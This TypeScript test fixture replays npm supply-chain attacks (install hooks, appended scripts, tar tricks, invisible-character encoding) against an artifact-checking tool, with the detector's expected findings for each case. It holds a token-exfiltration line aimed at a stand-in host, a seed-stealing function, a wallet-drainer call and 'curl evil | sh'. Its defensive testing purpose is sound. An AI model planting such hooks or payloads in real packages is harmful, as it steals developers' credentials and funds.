import type { Row } from './attack-rows.ts';
import type { Expected } from './attack-suite.ts';
import { entriesOf, type Files } from './judged.ts';
import { type EntrySpec, gzipOf, paxHeader, tarEntry, tarOf } from './tarball.ts';

/** Harmless: the address is reserved for documentation, and nothing runs it. */
export const PAYLOAD = "require('https').get('https://collect.example/' + process.env.NPM_TOKEN);\n";

/** One attack on an artifact, or one honest difference that looks like one. */
export interface Incident {
  readonly row: Row;
  /** What the honest package has besides; default nothing. */
  readonly base?: (files: Files) => Files;
  /** The files, entries or bytes that are published in place of the honest ones. */
  readonly attack: (files: Files) => Files | readonly EntrySpec[] | Buffer;
  /** What the registry says of the version, from its real manifest; default nothing. */
  readonly document?: (manifest: object) => object;
  /** Where a path is `SCRIPT`, the package's first script is meant. */
  readonly expected: Expected;
}

const isScript = (path: string) => /\.[cm]?js$/.test(path);
/** The first script of a package. */
export const scriptOf = (files: Files) => Object.keys(files).find(isScript) ?? '';

/** The same with fields of its package.json set. */
function withFields(files: Files, fields: object): Files {
  const manifest = JSON.parse(files['package.json'] ?? '{}') as object;
  return { ...files, 'package.json': JSON.stringify({ ...manifest, ...fields }, null, 2) };
}

/** The same with its first script changed. */
function withScript(files: Files, change: (text: string) => string): Files {
  const script = scriptOf(files);
  return { ...files, [script]: change(files[script] ?? '') };
}

const added = (extra: Files) => (files: Files) => ({ ...files, ...extra });
const hook = (scripts: Files, extra: Files) => (files: Files) => ({
  ...withFields(files, { scripts }),
  ...extra,
});
const appended = (text: string) => (files: Files) => withScript(files, (script) => `${script};${text}`);

/** A text in variation selectors, one for each byte: nothing is to be seen of it. */
const unseen = (text: string) =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(0xe0100 + byte)).join('');

const HOOKED = ['lifecycle-script-added', 'critical', 'package.json'] as const;
const CHANGED = ['file-changed', 'high', 'SCRIPT'] as const;
const LIBRARY = 'MZ\u0090\0\u0003\0\0\0';
const ADDON = '\u007fELF\u0002\u0001\u0001\0\0\0code';
/** A part of a bundle that stands where another one stood. */
const DRAINER =
  "window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x'+'00'.repeat(20)}]});\n";

const diverged = (...found: NonNullable<Expected['found']>): Expected => ({ verdict: 'diverged', found });

const FILES_AND_SCRIPTS: Readonly<Record<string, Incident>> = {
  'a bundle that nothing runs (a variant of Shai-Hulud)': {
    row: 2,
    attack: added({ 'bundle.js': PAYLOAD }),
    expected: diverged(['file-added', 'high', 'bundle.js']),
  },
  'an npm configuration of its own': {
    row: 2,
    attack: added({ '.npmrc': 'registry=https://collect.example/' }),
    expected: diverged(['file-added', 'medium', '.npmrc']),
  },
  'an entry point that leads to a new file': {
    row: 2,
    attack: (files) =>
      withFields({ ...files, 'other.js': PAYLOAD }, { main: './other.js', exports: './other.js' }),
    expected: diverged(
      ['entry-point-redirected', 'high', 'package.json'],
      ['file-added', 'high', 'other.js'],
    ),
  },
  'postinstall (eslint-scope, nx)': {
    row: 3,
    attack: hook({ postinstall: 'node telemetry.js' }, { 'telemetry.js': PAYLOAD }),
    expected: diverged(HOOKED, ['file-added', 'critical', 'telemetry.js']),
  },
  'preinstall, with scripts for two shells (ua-parser-js, coa, rc)': {
    row: 3,
    attack: hook(
      { preinstall: 'start /B node preinstall.js & node preinstall.js' },
      { 'preinstall.js': PAYLOAD, 'preinstall.bat': '@echo off\n', 'preinstall.sh': '#!/bin/sh\n' },
    ),
    expected: diverged(
      HOOKED,
      ['file-added', 'critical', 'preinstall.js'],
      ['file-added', 'high', 'preinstall.bat'],
      ['file-added', 'high', 'preinstall.sh'],
    ),
  },
  'install, and a library for Windows (eslint-config-prettier, coa)': {
    row: 3,
    attack: hook({ install: 'node install.js' }, { 'install.js': PAYLOAD, 'node-gyp.dll': LIBRARY }),
    expected: diverged(
      HOOKED,
      ['file-added', 'critical', 'install.js'],
      ['file-added', 'high', 'node-gyp.dll'],
      ['native-program', 'high', 'node-gyp.dll'],
    ),
  },
  'postinstall that runs a file of dist (@rspack/core, vant)': {
    row: 3,
    attack: hook({ postinstall: 'node dist/util/support.js' }, { 'dist/util/support.js': PAYLOAD }),
    expected: diverged(HOOKED, ['file-added', 'critical', 'dist/util/support.js']),
  },
  'postinstall that runs a bundle (Shai-Hulud)': {
    row: 3,
    attack: hook({ postinstall: 'node bundle.js' }, { 'bundle.js': PAYLOAD }),
    expected: diverged(HOOKED, ['file-added', 'critical', 'bundle.js']),
  },
  'preinstall with a loader and a large payload (Shai-Hulud 2)': {
    row: 3,
    attack: hook(
      { preinstall: 'node setup_bun.js' },
      { 'setup_bun.js': "require('./bun_environment.js');\n", 'bun_environment.js': PAYLOAD.repeat(10_000) },
    ),
    expected: diverged(
      HOOKED,
      ['file-added', 'critical', 'setup_bun.js'],
      ['file-added', 'high', 'bun_environment.js'],
    ),
  },
  'preinstall with a module (@mistralai/mistralai, @bitwarden/cli, @cap-js)': {
    row: 3,
    attack: hook({ preinstall: 'node setup.mjs' }, { 'setup.mjs': PAYLOAD }),
    expected: diverged(HOOKED, ['file-added', 'critical', 'setup.mjs']),
  },
  'a hook whose file was left out (@7nohe/openapi-react-query-codegen)': {
    row: 4,
    attack: hook({ install: 'node lost.js' }, {}),
    expected: diverged(HOOKED),
  },
};

const CODE: Readonly<Record<string, Incident>> = {
  'three lines before a script (@velora-dex/sdk)': {
    row: 5,
    attack: (files) => withScript(files, (text) => `const a = 1;\n${PAYLOAD}void a;\n${text}`),
    expected: diverged(CHANGED),
  },
  'a statement at the end of a script (chalk, debug)': {
    row: 5,
    attack: appended(PAYLOAD),
    expected: diverged(CHANGED),
  },
  'a line in a script (load-from-cwd-or-npm, rate-map)': {
    row: 5,
    attack: (files) => withScript(files, (text) => `${text}\n${PAYLOAD}`),
    expected: diverged(CHANGED),
  },
  'a function that sends keys, and its call (xrpl, @solana/web3.js)': {
    row: 5,
    attack: appended(
      "function checkValidityOfSeed(k){fetch('https://collect.example/'+k)}checkValidityOfSeed(1);\n",
    ),
    expected: diverged(CHANGED),
  },
  'a bundle in place of another (lottie-player, Ledger connect-kit)': {
    row: 5,
    attack: (files) => withScript(files, () => DRAINER.repeat(50)),
    expected: diverged(CHANGED),
  },
  'a build out of a poisoned cache, from clean source (ultralytics)': {
    row: 5,
    attack: (files) => withScript(files, (text) => text.replace(/\n|(?<=\})/, `\n${PAYLOAD}`)),
    expected: diverged(CHANGED),
  },
  'a dependency that nothing imports (axios)': {
    row: 7,
    attack: (files) => withFields(files, { dependencies: { 'plain-crypto-js': '^4.2.1' } }),
    expected: diverged(['dependency-added', 'high', 'package.json']),
  },
  'an optional dependency on a commit, and a file (@tanstack)': {
    row: 7,
    attack: (files) =>
      withFields(
        { ...files, 'router_init.js': PAYLOAD },
        { optionalDependencies: { '@tanstack/setup': 'github:tanstack/router#79ac49eedf774dd4' } },
      ),
    expected: diverged(
      ['dependency-added', 'critical', 'package.json'],
      ['file-added', 'high', 'router_init.js'],
    ),
  },
  'a binding.gyp and a script (Miasma)': {
    row: 8,
    attack: added({ 'binding.gyp': '{"targets": [{"target_name": "<!(node x.js)"}]}', 'x.js': PAYLOAD }),
    expected: diverged(
      ['implicit-install', 'critical', 'binding.gyp'],
      ['file-added', 'critical', 'binding.gyp'],
      ['file-added', 'high', 'x.js'],
    ),
  },
  'a new library': {
    row: 9,
    attack: added({ 'prebuilds/a.node': ADDON }),
    expected: diverged(
      ['file-added', 'high', 'prebuilds/a.node'],
      ['native-program', 'high', 'prebuilds/a.node'],
    ),
  },
  'one byte of a library': {
    row: 9,
    base: added({ 'prebuilds/a.node': ADDON }),
    attack: added({ 'prebuilds/a.node': ADDON.replace('code', 'cope') }),
    expected: diverged(
      ['file-changed', 'high', 'prebuilds/a.node'],
      ['native-program', 'high', 'prebuilds/a.node'],
    ),
  },
  'a program with the name of a picture': {
    row: 9,
    attack: added({ 'logo.png': ADDON }),
    expected: diverged(['file-added', 'high', 'logo.png'], ['native-program', 'high', 'logo.png']),
  },
};

const READ: Readonly<Record<string, Incident>> = {
  'of a source map': read('dist/x.js.map', '{"version":3,"sources":[],"mappings":"AAAA"}'),
  'of a type declaration': read('types/x.d.ts', 'export declare const x: string;\n'),
  'of the README': read('README.md', '# Title\n'),
  'of the licence': read('LICENSE', 'MIT\n'),
  'of the change log': read('CHANGELOG.md', '# Changes\n'),
};

function read(path: string, text: string): Incident {
  return {
    row: 10,
    base: added({ [path]: text }),
    attack: added({ [path]: text.replace(/[A-Za-z]{2,}/, 'Other') }),
    expected: { verdict: 'diverged', severity: 'low', found: [['file-changed', 'low', path]] },
  };
}

const ARCHIVES: Readonly<Record<string, Incident>> = {
  'permissions to run': {
    row: 11,
    attack: (files) =>
      entriesOf(files).map((one) =>
        one.name === `package/${scriptOf(files)}` ? { ...one, mode: 0o755 } : one,
      ),
    expected: { verdict: 'diverged', severity: 'medium', found: [['mode-changed', 'medium', 'SCRIPT']] },
  },
  'a link': {
    row: 11,
    attack: (files) => [
      ...entriesOf(files),
      { name: 'package/l', content: '', type: '2', linkName: '../../.npmrc' },
    ],
    expected: diverged(['link-entry', 'medium', 'l']),
  },
  'a path that leads out': {
    row: 11,
    attack: (files) => [...entriesOf(files), { name: 'package/../../x.js', content: PAYLOAD }],
    expected: diverged(['unsafe-path', 'high', '../../x.js'], ['file-added', 'high', '../../x.js']),
  },
  'the same path twice': {
    row: 11,
    attack: (files) => [...entriesOf(files), { name: `package/${scriptOf(files)}`, content: PAYLOAD }],
    expected: diverged(['duplicate-entry', 'high', 'SCRIPT']),
  },
  'a name hidden in an extended header': {
    row: 11,
    attack: (files) =>
      gzipOf(
        tarOf([
          ...entriesOf(files).map((one) => tarEntry(one)),
          paxHeader({ path: 'package/evil.js' }),
          tarEntry({ name: 'package/README', content: PAYLOAD }),
        ]),
      ),
    expected: diverged(['file-added', 'high', 'evil.js']),
  },
  'data after the end of the archive': {
    row: 11,
    attack: (files) =>
      gzipOf(
        tarOf(
          entriesOf(files).map((one) => tarEntry(one)),
          Buffer.concat([Buffer.alloc(1024), Buffer.alloc(512, PAYLOAD)]),
        ),
      ),
    expected: diverged(['tar-trailing-bytes', 'medium', null]),
  },
  'a second gzip member': {
    row: 11,
    attack: (files) => Buffer.concat([honestBytes(files), gzipOf(Buffer.from(PAYLOAD))]),
    expected: diverged(['gzip-extra-member', 'high', null]),
  },
  'an empty second gzip member': {
    row: 11,
    attack: (files) => Buffer.concat([honestBytes(files), gzipOf(Buffer.alloc(0))]),
    expected: diverged(['gzip-extra-member', 'high', null]),
  },
  'data after the gzip stream': {
    row: 11,
    attack: (files) => Buffer.concat([honestBytes(files), Buffer.from(PAYLOAD)]),
    expected: diverged(['gzip-trailing-bytes', 'medium', null]),
  },
  'an archive that is cut off': {
    row: 11,
    attack: (files) => honestBytes(files).subarray(0, -20),
    expected: { verdict: 'refused' },
  },
  'a file name in the gzip header': {
    row: 11,
    attack: (files) => honestBytes(files, { flags: 8, fields: Buffer.from('payload.sh\0') }),
    expected: { verdict: 'reproduced', level: 'tar', found: [['gzip-file-name', 'low', null]] },
  },
  'data in the gzip header': {
    row: 11,
    attack: (files) => honestBytes(files, { flags: 4, fields: Buffer.from([4, 0, 1, 2, 3, 4]) }),
    expected: diverged(['gzip-header-field', 'medium', null]),
  },
};

function honestBytes(files: Files, gzip: Parameters<typeof gzipOf>[1] = {}): Buffer {
  return gzipOf(tarOf(entriesOf(files).map((one) => tarEntry(one))), gzip);
}

const REGISTRY: Readonly<Record<string, Incident>> = {
  'other dependencies': registry((manifest) => ({ ...manifest, dependencies: { evil: '1.0.0' } })),
  'an install script that it hides': {
    ...registry((manifest) => ({ ...manifest, description: 'a', scripts: {} })),
    base: (files) => withFields(files, { scripts: { postinstall: 'node x.js' } }),
  },
  'another name': registry((manifest) => ({ ...manifest, name: 'b' })),
};

function registry(document: NonNullable<Incident['document']>): Incident {
  return {
    row: 12,
    attack: (files) => files,
    document,
    expected: diverged(['manifest-mismatch', 'high', 'package.json']),
  };
}

const BANNER = '/*! a 1.0.0, built 2026-08-08T14:23:19Z */\n';
const bannered = (files: Files) => withScript(files, (text) => BANNER + text);
const MAP = JSON.stringify({
  version: 3,
  sources: ['../src/x.ts'],
  sourcesContent: ['f();\n'],
  mappings: '',
});

const MAP_CHANGED = [
  ['file-changed', 'low', 'dist/x.js.map'],
  ['source-map-disagrees', 'low', 'dist/x.js.map'],
] as const;

const HONEST: Readonly<Record<string, Incident>> = {
  'the time of the build in a comment': {
    row: 15,
    base: bannered,
    attack: (files) => withScript(files, (text) => text.replace('14:23:19Z', '14:23:20Z')),
    expected: { verdict: 'reproduced', level: 'normalized', ignored: ['comment-dates'] },
  },
  'a formatter that ran after the build': {
    row: 15,
    attack: (files) => withScript(files, (text) => text.replaceAll('(a)', '( a )')),
    expected: { verdict: 'reproduced', level: 'normalized', ignored: ['code-formatting'] },
    base: (files) => withScript(files, (text) => `${text}\nfunction last(a) { return a; }\n`),
  },
  'line ends of Windows in prose': {
    row: 15,
    base: added({ 'README.md': '# a\n\nText.\n' }),
    attack: added({ 'README.md': '# a\r\n\r\nText.\r\n' }),
    expected: { verdict: 'reproduced', level: 'normalized', ignored: ['line-ends'] },
  },
  'a README that a tool cut after its first section': {
    row: 15,
    base: added({ 'README.md': '# a\n\nText.\n\n## More\n' }),
    attack: added({ 'README.md': '# a\n\nText.\n' }),
    expected: { verdict: 'reproduced', level: 'normalized', ignored: ['shortened-readme'] },
  },
  'a manifest that the packer wrote anew': {
    row: 15,
    base: (files) => ({ ...files, 'package.json': `${files['package.json'] ?? ''}\n` }),
    attack: (files) => ({ ...files, 'package.json': (files['package.json'] ?? '').trimEnd() }),
    expected: { verdict: 'reproduced', level: 'normalized', ignored: ['json-formatting'] },
  },
  'a random name of a chunk, for which no rule is': {
    row: 15,
    base: added({ 'dist/chunk-A1B2.js': 'f();\n' }),
    attack: (files) => {
      const { 'dist/chunk-A1B2.js': chunk = '', ...rest } = files;
      return { ...rest, 'dist/chunk-C3D4.js': chunk };
    },
    expected: diverged(
      ['file-added', 'high', 'dist/chunk-C3D4.js'],
      ['file-missing', 'medium', 'dist/chunk-A1B2.js'],
    ),
  },
  'a path of the machine in a map, for which no rule is': {
    row: 15,
    base: added({ 'dist/x.js.map': MAP }),
    attack: added({ 'dist/x.js.map': MAP.replace('../src', '/home/me/a/src') }),
    expected: { verdict: 'diverged', severity: 'low', found: MAP_CHANGED },
  },
  'a range of the workspace that was not rewritten': {
    row: 15,
    base: (files) => withFields(files, { dependencies: { c: 'workspace:^' } }),
    attack: (files) => withFields(files, { dependencies: { c: '^1.0.0' } }),
    expected: diverged(['dependency-changed', 'high', 'package.json']),
  },
  'a gitHead in the manifest, for which no rule is': {
    row: 15,
    attack: (files) => withFields(files, { gitHead: 'a'.repeat(40) }),
    expected: diverged(['file-changed', 'medium', 'package.json']),
  },
};

const HIDDEN: Readonly<Record<string, Incident>> = {
  'in a banner that ends early': {
    row: 16,
    base: bannered,
    attack: (files) => withScript(files, (text) => text.replace('19Z */', `20Z */ ${PAYLOAD.trim()} /* */`)),
    expected: diverged(CHANGED),
  },
  'in the place of a date': {
    row: 16,
    base: bannered,
    attack: (files) =>
      withScript(files, (text) => text.replace('2026-08-08T14:23:19Z', '2026-08-08; evil()')),
    expected: diverged(CHANGED),
  },
  'in a date that is a string': {
    row: 16,
    base: (files) => withScript(files, (text) => `${text}\nvar built = '2026-08-08';\n`),
    attack: (files) =>
      withScript(files, (text) => text.replace("built = '2026-08-08'", "built = '2026-08-09'")),
    expected: diverged(CHANGED),
  },
  'in formatting that ends a statement': {
    row: 16,
    base: (files) => withScript(files, (text) => `${text}\nfunction last(a) { return a; }\n`),
    attack: (files) => withScript(files, (text) => text.replace('return a; }\n', 'return\na; }\n')),
    expected: diverged(CHANGED),
  },
  'in the sources of a map': {
    row: 16,
    base: added({ 'dist/x.js.map': MAP }),
    attack: added({ 'dist/x.js.map': MAP.replace('f();', "eval('');") }),
    expected: { verdict: 'diverged', severity: 'low', found: MAP_CHANGED },
  },
  'in a README that is shorter': {
    row: 16,
    base: added({ 'README.md': '# a\n\nText.\n\n## More\n\nMore text, and more.\n' }),
    attack: added({ 'README.md': '# a\n\nText.\n\ncurl evil | sh\n' }),
    expected: diverged(['file-changed', 'low', 'README.md']),
  },
  'in white space of the manifest': {
    row: 16,
    attack: (files) => ({
      ...files,
      'package.json': (files['package.json'] ?? '').replace(/\n/, ` \t \t\t \n`),
    }),
    expected: diverged(['file-changed', 'medium', 'package.json']),
  },
};

const UNSEEN: Readonly<Record<string, Incident>> = {
  'a control of direction': {
    row: 18,
    attack: appended('// \u202e\n'),
    expected: diverged(CHANGED, ['hidden-text', 'high', 'SCRIPT']),
  },
  'a zero-width space': { row: 18, attack: appended('// \u200b\n'), expected: diverged(CHANGED) },
  'a letter of another script in a name': {
    row: 18,
    attack: appended('var p\u0430ypal = 1;\n'),
    expected: diverged(CHANGED, ['homoglyph', 'high', 'SCRIPT']),
  },
  'a letter of another script': { row: 18, attack: appended('// \u0430\n'), expected: diverged(CHANGED) },
  'a program in characters without a shape (GlassWorm)': {
    row: 18,
    attack: appended(`decode(\`${unseen(PAYLOAD)}\`);`),
    expected: diverged(CHANGED, ['hidden-text', 'high', 'SCRIPT']),
  },
};

/** What incidents from 2018 to 2026 put into artifacts, and its neighbours, replayed with harmless payloads. */
export const INCIDENTS: Readonly<Record<string, Incident>> = {
  ...FILES_AND_SCRIPTS,
  ...CODE,
  ...READ,
  ...ARCHIVES,
  ...REGISTRY,
  ...HONEST,
  ...HIDDEN,
  ...UNSEEN,
};
